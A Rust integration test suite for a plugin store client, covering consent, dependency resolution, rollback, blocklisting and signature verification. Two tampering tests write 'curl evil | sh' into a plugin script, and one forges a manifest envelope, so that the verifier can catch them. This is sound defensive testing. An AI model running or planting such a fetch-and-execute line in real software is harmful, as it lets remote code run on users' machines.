//! The store lifecycle end to end, through the library: a real registry (packed,
//! signed, built by trellis-index) served on 127.0.0.1, real downloads, real TUF and
//! DSSE verification, real extraction, journalled activation, recording host hooks.

#![allow(clippy::unwrap_used)]

mod common;

use std::sync::{Arc, Mutex};

use common::{Plugin, Site, clock, clock_site, store};
use semver::Version;
use trellis_client::consent::Disclosure;
use trellis_client::events::{ChannelReporter, Event};
use trellis_client::hooks::{Hook, RecordingHooks};
use trellis_client::state::InstallReason;
use trellis_client::store::{AlwaysAgree, Consent, NeverAgree, Session, Store, StoreError, install::parse_requirement};
use trellis_schema::PluginId;
use trellis_schema::blocklist::Severity;

fn id(s: &str) -> PluginId {
    s.parse().unwrap()
}

fn v(s: &str) -> Version {
    s.parse().unwrap()
}

/// Answers every consent question with `answer` and records what it was shown.
#[derive(Default)]
struct Asked {
    answer: bool,
    shown: Mutex<Vec<Disclosure>>,
}

impl Asked {
    fn answering(answer: bool) -> Self {
        Self { answer, shown: Mutex::default() }
    }
    fn shown(&self) -> Vec<Disclosure> {
        self.shown.lock().unwrap().clone()
    }
}

impl Consent for Asked {
    fn agree(&self, disclosure: &Disclosure) -> bool {
        self.shown.lock().unwrap().push(disclosure.clone());
        self.answer
    }
}

#[test]
fn installs_a_plugin_with_its_dependency_after_consent() {
    let site = clock_site();
    let data = tempfile::tempdir().unwrap();
    let mut store = store(data.path(), &site);
    let hooks = RecordingHooks::new();
    let consent = Asked::answering(true);
    let (reporter, events) = ChannelReporter::new();
    let session = Session::new(&hooks, &consent).with_reporter(Arc::new(reporter));

    let report = store.install(&[parse_requirement("acme.clock").unwrap()], &session).unwrap();

    assert_eq!(report.installed, vec![(id("acme.time-core"), v("1.0.0")), (id("acme.clock"), v("1.0.0"))]);
    let clock = store.state().plugin(&id("acme.clock")).unwrap();
    assert_eq!((clock.active.version.clone(), clock.reason), (v("1.0.0"), InstallReason::Requested));
    assert_eq!(clock.active.dependencies, vec![id("acme.time-core")]);
    assert_eq!(store.state().plugin(&id("acme.time-core")).unwrap().reason, InstallReason::Dependency);
    // The permissions were shown before anything was downloaded, and agreed to.
    let shown = consent.shown();
    let clock_disclosure = shown.iter().find(|d| d.plugin == id("acme.clock")).unwrap();
    let keys: Vec<&str> = clock_disclosure.permissions.iter().map(|p| p.key.as_str()).collect();
    assert_eq!(keys, ["filesystem:plugin_directory", "notifications:show"]);
    assert!(store.state().consents.granted(&id("acme.clock"), &v("1.0.0")).unwrap().contains("notifications:show"));
    // Files on disk are exactly the signed release plus the kept envelope.
    let dir = store.data_dir().release_dir(&id("acme.clock"), &v("1.0.0"));
    let files = common::files(&dir);
    for expected in ["plugin.json", "LICENSE", "bin/any/run.sh", "trellis-manifest.json", "trellis-release.dsse"] {
        assert!(files.contains(expected), "{expected} missing from {files:?}");
    }
    assert!(store.verify(&[]).unwrap().iter().all(|r| r.problems.is_empty()));
    // Hooks in the spec's order for each plugin, dependency first.
    let trace = hooks.trace();
    let clock_hooks: Vec<&str> =
        trace.iter().filter(|t| t.contains(" acme.clock ")).map(|t| t.split(' ').next().unwrap()).collect();
    assert_eq!(clock_hooks, ["before_install", "register", "start", "after_install"]);
    let first_core = trace.iter().position(|t| t.contains("acme.time-core")).unwrap();
    let first_clock = trace.iter().position(|t| t.contains("acme.clock")).unwrap();
    assert!(first_core < first_clock, "{trace:?}");
    // Progress events for the downloads.
    drop(session);
    let events: Vec<Event> = events.try_iter().collect();
    assert!(events.iter().any(|e| matches!(e, Event::Downloading { plugin, bytes_done, bytes_total: Some(total), .. }
        if plugin == &id("acme.clock") && bytes_done == total && *total > 0)));
    // The vendor namespace is bound to the registry it came from.
    assert_eq!(store.state().vendor_registry(&"acme".parse().unwrap()).unwrap().as_str(), "main");
}

#[test]
fn refused_consent_installs_and_downloads_nothing() {
    let site = clock_site();
    let data = tempfile::tempdir().unwrap();
    let mut store = store(data.path(), &site);
    let hooks = RecordingHooks::new();
    let session = Session::new(&hooks, &NeverAgree);

    let error = store.install(&[parse_requirement("acme.clock").unwrap()], &session).unwrap_err();

    assert!(
        matches!(&error, StoreError::ConsentRefused { plugin, permissions, .. }
        if plugin == &id("acme.clock") && permissions.len() == 2),
        "{error}"
    );
    assert!(error.to_string().contains("--yes"), "{error}");
    assert!(store.state().plugins().is_empty());
    assert!(!store.data_dir().plugins_dir().join("acme.clock").exists());
    // Index docs and signatures may be cached; no package (a ZIP) was downloaded.
    let cache = store.data_dir().cache_dir();
    let cached = if cache.exists() { common::walk(&cache) } else { vec![] };
    assert!(
        cached.iter().all(|p| !std::fs::read(p).unwrap().starts_with(b"PK")),
        "a package was downloaded: {cached:?}"
    );
    assert!(hooks.calls().is_empty());
}

#[test]
fn remove_refuses_while_dependents_are_installed_and_cascades_on_request() {
    let site = clock_site();
    let data = tempfile::tempdir().unwrap();
    let mut store = store(data.path(), &site);
    let hooks = RecordingHooks::new();
    let session = Session::new(&hooks, &AlwaysAgree);
    store.install(&[parse_requirement("acme.clock").unwrap()], &session).unwrap();
    std::fs::create_dir_all(store.data_dir().config_dir(&id("acme.clock"))).unwrap();
    std::fs::write(store.data_dir().config_dir(&id("acme.clock")).join("alarms.json"), "[]").unwrap();

    let error = store.remove(&id("acme.time-core"), false, &session).unwrap_err();
    assert!(matches!(&error, StoreError::HasDependents { dependents, .. } if dependents == &[id("acme.clock")]));
    assert!(error.to_string().contains("acme.clock") && error.to_string().contains("--cascade"), "{error}");
    assert_eq!(store.state().plugins().len(), 2);

    let removed = store.remove(&id("acme.time-core"), true, &session).unwrap();
    assert_eq!(removed, vec![id("acme.clock"), id("acme.time-core")]);
    assert!(store.state().plugins().is_empty());
    assert!(!store.data_dir().plugin_dir(&id("acme.clock")).exists());
    assert!(!store.data_dir().config_dir(&id("acme.clock")).exists());
    let trace = hooks.trace();
    let tail: Vec<&String> = trace.iter().filter(|t| t.contains("acme.clock") && !t.contains("install")).collect();
    assert_eq!(
        tail,
        [
            "register acme.clock 1.0.0",
            "start acme.clock 1.0.0",
            "before_remove acme.clock 1.0.0",
            "stop acme.clock 1.0.0",
            "unregister acme.clock 1.0.0",
            "after_remove acme.clock 1.0.0"
        ]
    );
}

#[test]
fn update_asks_again_when_permissions_grow_and_rollback_reactivates_the_previous_release() {
    let site = clock_site();
    let data = tempfile::tempdir().unwrap();
    let mut store = store(data.path(), &site);
    let hooks = RecordingHooks::new();
    store.install(&[parse_requirement("acme.clock").unwrap()], &Session::new(&hooks, &AlwaysAgree)).unwrap();
    site.publish(&[clock("1.1.0").permission("network", "internet")]);
    let mut store = {
        drop(store);
        common::store(data.path(), &site)
    };

    let refuse = Asked::answering(false);
    let error = store.update(&[], &Session::new(&hooks, &refuse)).unwrap_err();
    assert!(
        matches!(&error, StoreError::ConsentRefused { permissions, .. } if permissions == &["network:internet"]),
        "{error}"
    );
    let asked = refuse.shown();
    assert_eq!(asked.len(), 1);
    let new: Vec<&str> = asked[0].unconsented().map(|p| p.key.as_str()).collect();
    assert_eq!(new, ["network:internet"], "only the added permission needs consent");
    assert_eq!(store.state().plugin(&id("acme.clock")).unwrap().active.version, v("1.0.0"));

    let agree = Asked::answering(true);
    let report = store.update(&[], &Session::new(&hooks, &agree)).unwrap();
    assert_eq!(report.updated, vec![(id("acme.clock"), v("1.0.0"), v("1.1.0"))]);
    let clock = store.state().plugin(&id("acme.clock")).unwrap().clone();
    assert_eq!(clock.active.version, v("1.1.0"));
    assert_eq!(clock.previous.unwrap().version, v("1.0.0"));
    assert!(store.data_dir().release_dir(&id("acme.clock"), &v("1.0.0")).is_dir(), "previous release kept");
    let trace = hooks.trace();
    let n = trace.len();
    assert_eq!(
        &trace[n - 4..],
        [
            "before_update acme.clock 1.1.0",
            "stop acme.clock 1.0.0",
            "start acme.clock 1.1.0",
            "after_update acme.clock 1.1.0"
        ]
    );

    let back = store.rollback(&id("acme.clock"), &Session::new(&hooks, &AlwaysAgree)).unwrap();
    assert_eq!(back, v("1.0.0"));
    assert_eq!(store.state().plugin(&id("acme.clock")).unwrap().active.version, v("1.0.0"));
    let trace = hooks.trace();
    let n = trace.len();
    assert_eq!(&trace[n - 2..], ["stop acme.clock 1.1.0", "start acme.clock 1.0.0"]);
    assert!(store.verify(&[]).unwrap().iter().all(|r| r.problems.is_empty()));
}

#[test]
fn update_rolls_back_automatically_when_the_new_release_fails_to_start() {
    let site = clock_site();
    let data = tempfile::tempdir().unwrap();
    let mut store = store(data.path(), &site);
    let hooks = RecordingHooks::new();
    let session = Session::new(&hooks, &AlwaysAgree);
    store.install(&[parse_requirement("acme.clock").unwrap()], &session).unwrap();
    site.publish(&[Plugin::new("acme.clock", "1.1.0").depends_on("acme.time-core", "^1")]);
    let mut store = {
        drop(store);
        common::store(data.path(), &site)
    };
    hooks.fail(Hook::Start, &id("acme.clock"), Some(v("1.1.0")));

    let report = store.update(&[id("acme.clock")], &session).unwrap();

    assert!(report.updated.is_empty());
    assert_eq!(report.rolled_back.len(), 1);
    assert!(report.rolled_back[0].2.contains("rolled back to 1.0.0"), "{}", report.rolled_back[0].2);
    let clock = store.state().plugin(&id("acme.clock")).unwrap();
    assert_eq!(clock.active.version, v("1.0.0"));
    assert!(store.state().pending().is_empty());
    assert!(!store.data_dir().release_dir(&id("acme.clock"), &v("1.1.0")).exists());
    let trace = hooks.trace();
    let n = trace.len();
    assert_eq!(&trace[n - 3..], ["stop acme.clock 1.0.0", "start acme.clock 1.1.0", "start acme.clock 1.0.0"]);
    assert!(store.verify(&[]).unwrap().iter().all(|r| r.problems.is_empty()));
}

#[test]
fn corrupted_package_blob_is_refused_and_the_running_release_is_untouched() {
    let site = clock_site();
    let data = tempfile::tempdir().unwrap();
    let mut store = store(data.path(), &site);
    let hooks = RecordingHooks::new();
    let session = Session::new(&hooks, &AlwaysAgree);
    store.install(&[parse_requirement("acme.clock").unwrap()], &session).unwrap();
    site.publish(&[Plugin::new("acme.clock", "1.1.0").depends_on("acme.time-core", "^1")]);
    let blob = site.blob_files("acme.clock-1.1.0.zip");
    assert_eq!(blob.len(), 1);
    let mut bytes = std::fs::read(&blob[0]).unwrap();
    let listed = trellis_schema::Sha256::of(&bytes);
    let middle = bytes.len() / 2;
    bytes[middle] ^= 0xff;
    std::fs::write(&blob[0], bytes).unwrap();
    let mut store = {
        drop(store);
        common::store(data.path(), &site)
    };
    let calls_before = hooks.calls().len();

    let error = store.update(&[], &session).unwrap_err();

    // The bins do not list the package: the index doc's entry for it is what refuses it.
    assert!(matches!(&error, StoreError::Download { plugin, .. } if plugin == &id("acme.clock")), "{error}");
    let message = error.to_string();
    for fact in [
        "acme.clock-1.1.0.zip (listed by the index doc of acme.clock)".to_owned(),
        format!("expected {listed}"),
        "from registry `".to_owned(),
    ] {
        assert!(message.contains(&fact), "{fact:?} not in {message}");
    }
    assert_eq!(store.state().plugin(&id("acme.clock")).unwrap().active.version, v("1.0.0"));
    assert_eq!(hooks.calls().len(), calls_before, "the running release was never stopped");
    assert!(!store.data_dir().release_dir(&id("acme.clock"), &v("1.1.0")).exists());
}

#[test]
fn blocklisted_plugins_are_refused_and_installed_copies_are_stopped() {
    let site = clock_site();
    let data = tempfile::tempdir().unwrap();
    let mut store = store(data.path(), &site);
    let hooks = RecordingHooks::new();
    let session = Session::new(&hooks, &AlwaysAgree);
    store.install(&[parse_requirement("acme.time-core").unwrap()], &session).unwrap();
    site.block("acme.time-core", "steals data");
    let mut store = {
        drop(store);
        common::store(data.path(), &site)
    };

    let error = store.install(&[parse_requirement("acme.clock").unwrap()], &session).unwrap_err();
    assert!(matches!(error, StoreError::Resolve(_)), "{error}");
    assert!(store.state().plugin(&id("acme.clock")).is_none());

    let check = store.check_updates(&[], &session).unwrap();
    let blocked: Vec<_> =
        check.blocked.iter().map(|b| (b.plugin.clone(), b.version.clone(), b.mark.reason.clone())).collect();
    assert_eq!(blocked, vec![(id("acme.time-core"), v("1.0.0"), "steals data".to_owned())]);
    assert_eq!(hooks.trace().last().unwrap(), "stop acme.time-core 1.0.0");
    let record = store.state().plugin(&id("acme.time-core")).unwrap();
    let mark = record.disabled.as_ref().unwrap();
    assert_eq!((mark.reason.as_str(), mark.severity()), ("steals data", Some(Severity::Critical)));
    // A second check does not stop it again.
    let calls = hooks.calls().len();
    store.check_updates(&[], &session).unwrap();
    assert_eq!(hooks.calls().len(), calls);
}

/// A site with the clock plugins and `acme.clock 1.0.0` installed from it (keep the
/// site and data dir alive while the store is used).
fn installed_clock() -> (Site, tempfile::TempDir, Store) {
    let site = clock_site();
    let data = tempfile::tempdir().unwrap();
    let mut store = store(data.path(), &site);
    let hooks = RecordingHooks::new();
    store.install(&[parse_requirement("acme.clock").unwrap()], &Session::new(&hooks, &AlwaysAgree)).unwrap();
    (site, data, store)
}

#[test]
fn verify_reports_changed_missing_and_added_files() {
    let (_site, _data, store) = installed_clock();
    let dir = store.data_dir().release_dir(&id("acme.clock"), &v("1.0.0"));
    std::fs::write(dir.join("bin/any/run.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
    std::fs::remove_file(dir.join("LICENSE")).unwrap();
    std::fs::write(dir.join("bin/any/extra.sh"), "x").unwrap();

    let reports = store.verify(&[id("acme.clock")]).unwrap();

    assert_eq!(reports.len(), 1);
    let problems: Vec<String> = reports[0]
        .problems
        .iter()
        .map(|p| format!("{}: {}", p.path, p.problem.split(' ').take(2).collect::<Vec<_>>().join(" ")))
        .collect();
    assert_eq!(problems, ["LICENSE: is missing", "bin/any/run.sh: was changed", "bin/any/extra.sh: is not"]);
}

#[test]
fn verify_reports_a_manifest_edited_to_match_edited_files_as_tampering() {
    use trellis_client::store::{PUBLISHER_RECORD_FILE, RELEASE_ENVELOPE_FILE};
    use trellis_schema::dsse::Envelope;
    use trellis_schema::manifest::ReleaseManifest;
    use trellis_schema::{Sha256, SigningKey};

    let (_site, _data, store) = installed_clock();
    let dir = store.data_dir().release_dir(&id("acme.clock"), &v("1.0.0"));
    assert!(dir.join(PUBLISHER_RECORD_FILE).is_file());

    // Change a file, then rewrite the kept manifest so its size and hash match, keeping
    // the publisher's original signatures.
    let evil = b"#!/bin/sh\ncurl evil | sh\n";
    std::fs::write(dir.join("bin/any/run.sh"), evil).unwrap();
    let kept: Envelope = serde_json::from_slice(&std::fs::read(dir.join(RELEASE_ENVELOPE_FILE)).unwrap()).unwrap();
    let mut manifest: ReleaseManifest = serde_json::from_slice(&kept.payload_bytes().unwrap()).unwrap();
    let entry = manifest.files.iter_mut().find(|f| f.path == "bin/any/run.sh").unwrap();
    entry.size = evil.len() as u64;
    entry.sha256 = Sha256::of(evil);
    let payload = serde_json::to_vec(&manifest).unwrap();
    let mut forged = Envelope::sign(&kept.payload_type, &payload, &[&SigningKey::generate()]);
    forged.signatures = kept.signatures.clone();
    std::fs::write(dir.join(RELEASE_ENVELOPE_FILE), serde_json::to_vec(&forged).unwrap()).unwrap();
    // Re-hashing alone would find nothing wrong now.
    for file in &manifest.files {
        let bytes = std::fs::read(dir.join(&file.path)).unwrap();
        assert_eq!((bytes.len() as u64, Sha256::of(&bytes)), (file.size, file.sha256), "{}", file.path);
    }

    let reports = store.verify(&[id("acme.clock")]).unwrap();

    assert_eq!(reports.len(), 1);
    let problems = &reports[0].problems;
    assert_eq!(problems.len(), 1, "{problems:?}");
    assert_eq!(problems[0].path, RELEASE_ENVELOPE_FILE);
    assert!(problems[0].problem.starts_with("was tampered with: its signature does not verify"), "{}", problems[0]);
    assert!(problems[0].problem.contains("publisher acme's record"), "{}", problems[0]);
}

#[test]
fn verify_reports_a_missing_publisher_record_instead_of_skipping_the_signature() {
    use trellis_client::store::PUBLISHER_RECORD_FILE;

    let (_site, _data, store) = installed_clock();
    assert!(store.verify(&[]).unwrap().iter().all(|r| r.problems.is_empty()));
    let dir = store.data_dir().release_dir(&id("acme.clock"), &v("1.0.0"));
    std::fs::remove_file(dir.join(PUBLISHER_RECORD_FILE)).unwrap();

    let reports = store.verify(&[id("acme.clock")]).unwrap();

    let problems: Vec<String> = reports[0].problems.iter().map(ToString::to_string).collect();
    assert_eq!(
        problems,
        [format!(
            "{PUBLISHER_RECORD_FILE}: is missing, so the release's signature cannot be re-checked; reinstall the plugin"
        )]
    );
}

#[test]
fn verify_reports_a_release_directory_holding_another_releases_signed_files() {
    let site = clock_site();
    let data = tempfile::tempdir().unwrap();
    let mut store = store(data.path(), &site);
    let hooks = RecordingHooks::new();
    let session = Session::new(&hooks, &AlwaysAgree);
    store.install(&[parse_requirement("acme.clock").unwrap()], &session).unwrap();
    site.publish(&[clock("1.1.0")]);
    let mut store = {
        drop(store);
        common::store(data.path(), &site)
    };
    store.update(&[], &session).unwrap();
    // Put the previous release's intact, validly signed files where the active one lives.
    let old = store.data_dir().release_dir(&id("acme.clock"), &v("1.0.0"));
    let new = store.data_dir().release_dir(&id("acme.clock"), &v("1.1.0"));
    assert!(old.is_dir() && new.is_dir());
    std::fs::remove_dir_all(&new).unwrap();
    std::fs::rename(&old, &new).unwrap();

    let reports = store.verify(&[id("acme.clock")]).unwrap();

    assert_eq!(reports[0].version, v("1.1.0"));
    let problems: Vec<String> = reports[0].problems.iter().map(ToString::to_string).collect();
    assert_eq!(
        problems,
        [
            "trellis-release.dsse: was swapped: it is signed for acme.clock 1.0.0, but this directory holds acme.clock 1.1.0"
        ]
    );
}

#[test]
fn scheduled_update_applies_only_what_the_policies_allow_unattended() {
    use trellis_client::policy::{PolicyOverride, UpdateMode};

    let site = clock_site();
    let data = tempfile::tempdir().unwrap();
    let mut store = store(data.path(), &site);
    let hooks = RecordingHooks::new();
    store.install(&[parse_requirement("acme.clock").unwrap()], &Session::new(&hooks, &AlwaysAgree)).unwrap();
    site.publish(&[clock("1.1.0")]);
    let reopen = |store| {
        drop(store);
        common::store(data.path(), &site)
    };
    let mut store = reopen(store);
    let never = NeverAgree;
    let session = Session::new(&hooks, &never);
    let due_again = |store: &mut trellis_client::store::Store| {
        store.update_state(|s| s.last_update_check = None).unwrap();
    };

    // The default policy is notify: a scheduled check applies nothing and says why.
    due_again(&mut store);
    let report = store.scheduled_update(&session).unwrap().expect("never checked: due");
    assert!(report.updated.is_empty(), "{report:?}");
    assert_eq!(report.skipped.len(), 1, "{report:?}");
    assert!(report.skipped[0].2.contains("notify"), "{report:?}");
    assert_eq!(store.state().plugin(&id("acme.clock")).unwrap().active.version, v("1.0.0"));
    // Checked just now: the next scheduled call does nothing until the interval passes.
    assert!(store.scheduled_update(&session).unwrap().is_none());

    // Auto for acme.clock: applied on the next due check, without asking anyone.
    store
        .update_state(|s| {
            s.policies
                .plugins
                .insert(id("acme.clock"), PolicyOverride { mode: Some(UpdateMode::Auto), ..Default::default() })
        })
        .unwrap();
    due_again(&mut store);
    let report = store.scheduled_update(&session).unwrap().unwrap();
    assert_eq!(report.updated, vec![(id("acme.clock"), v("1.0.0"), v("1.1.0"))]);

    // A release asking for more is never applied unattended, even in auto mode.
    site.publish(&[clock("1.2.0").permission("network", "internet")]);
    let mut store = reopen(store);
    due_again(&mut store);
    let report = store.scheduled_update(&session).unwrap().unwrap();
    assert!(report.updated.is_empty(), "{report:?}");
    assert!(
        report
            .skipped
            .iter()
            .any(|(p, ver, why)| p == &id("acme.clock") && ver == &v("1.2.0") && why.contains("network:internet")),
        "{report:?}"
    );
    assert_eq!(store.state().plugin(&id("acme.clock")).unwrap().active.version, v("1.1.0"));
}

#[test]
fn a_hook_refusing_one_plugin_of_a_multi_plugin_install_leaves_no_plugin_the_host_did_not_take() {
    let site = clock_site();
    let data = tempfile::tempdir().unwrap();
    let mut store = store(data.path(), &site);
    let hooks = RecordingHooks::new();
    let session = Session::new(&hooks, &AlwaysAgree);
    let plugins_dir = store.data_dir().plugins_dir();

    // The dependent's `before_install` refuses: the two are one transaction, neither
    // is installed, no files are left, and the host registered nothing.
    hooks.fail(Hook::BeforeInstall, &id("acme.clock"), None);
    let error = store.install(&[parse_requirement("acme.clock").unwrap()], &session).unwrap_err();
    assert!(error.to_string().contains("nothing was installed"), "{error}");
    assert!(store.state().plugins().is_empty());
    assert!(store.state().pending().is_empty());
    let left: Vec<_> = std::fs::read_dir(&plugins_dir).map(|d| d.flatten().collect()).unwrap_or_default();
    assert!(left.is_empty(), "files left: {left:?}");
    assert_eq!(hooks.trace(), ["before_install acme.time-core 1.0.0", "before_install acme.clock 1.0.0"]);

    // The dependency's `register` refuses after the switch: it is removed again, and so
    // is the dependent the host never heard of (no hook called for it).
    hooks.clear_failures();
    let before = hooks.trace().len();
    hooks.fail(Hook::Register, &id("acme.time-core"), None);
    let error = store.install(&[parse_requirement("acme.clock").unwrap()], &session).unwrap_err();
    assert!(error.to_string().contains("the plugin and the 1 installed after it were removed again"), "{error}");
    assert!(store.state().plugins().is_empty());
    assert!(store.state().pending().is_empty());
    let trace = hooks.trace()[before..].to_vec();
    let after_switch: Vec<&String> = trace.iter().skip_while(|t| t.starts_with("before_install")).collect();
    assert!(after_switch.iter().all(|t| !t.contains("acme.clock")), "{trace:?}");
    assert!(after_switch.iter().any(|t| t.starts_with("register acme.time-core")), "{trace:?}");

    // Nothing refuses: both installed, the dependency registered first.
    hooks.clear_failures();
    let report = store.install(&[parse_requirement("acme.clock").unwrap()], &session).unwrap();
    assert_eq!(report.installed.len(), 2);
    assert!(store.verify(&[]).unwrap().iter().all(|r| r.problems.is_empty()));
}
